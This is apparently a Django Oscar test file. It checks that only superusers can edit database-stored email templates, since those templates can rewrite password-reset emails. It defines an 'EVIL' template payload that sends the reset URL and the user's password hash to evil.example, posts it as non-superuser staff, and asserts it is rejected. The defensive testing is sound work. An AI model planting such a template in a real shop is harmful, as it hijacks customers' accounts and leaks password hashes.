"""Oscar renders the email templates saved in the database (CommunicationEventType) over its
own files, as Django templates with the account in their context: whoever edits them writes
every password-reset email (its link, the account's password hash). Superusers only, in the
admin and in Oscar's dashboard; the demo's Équipe and the Trésorerie get neither."""

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from oscar.core.loading import get_model

CommunicationEventType = get_model("communication", "CommunicationEventType")

TEAM = "equipe@kiosque.example"
TREASURER = "tresorier@kiosque.example"
EVIL = "https://evil.example/r?u={{ reset_url|urlencode }} {{ user.password }}"


def signed_in(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


@pytest.fixture
def template(demo):
    return CommunicationEventType.objects.create(
        code="ORDER_PLACED", name="Commande", email_subject_template="Votre commande"
    )


@pytest.mark.parametrize("staff", [TEAM, TREASURER])
def test_other_staff_cannot_write_the_password_reset_email(staff, template):
    client = signed_in(get_user_model().objects.get(email=staff))
    pages = [
        "/admin/communication/communicationeventtype/",
        "/admin/communication/communicationeventtype/add/",
        f"/admin/communication/communicationeventtype/{template.pk}/change/",
        "/dashboard/comms/",
        f"/dashboard/comms/{template.code}/",
    ]
    for page in pages:
        assert client.get(page).status_code in (302, 403), page

    client.post(
        "/admin/communication/communicationeventtype/add/",
        {"code": "PASSWORD_RESET", "name": "x", "category": "Order related",
         "email_subject_template": "x", "email_body_template": EVIL},
    )  # fmt: skip
    client.post(
        f"/dashboard/comms/{template.code}/",
        {"email_subject_template": "x", "email_body_template": EVIL},
    )
    assert not CommunicationEventType.objects.filter(email_body_template__contains="evil").exists()
    assert "/dashboard/comms/" not in client.get("/dashboard/").content.decode()


def test_superusers_still_edit_the_email_templates(template, django_user_model):
    root = django_user_model.objects.create_superuser("root", "root@example.org", "x-long-pass")
    client = signed_in(root)
    assert client.get("/admin/communication/communicationeventtype/add/").status_code == 200
    assert client.get("/dashboard/comms/").status_code == 200
    assert client.get(f"/dashboard/comms/{template.code}/").status_code == 200
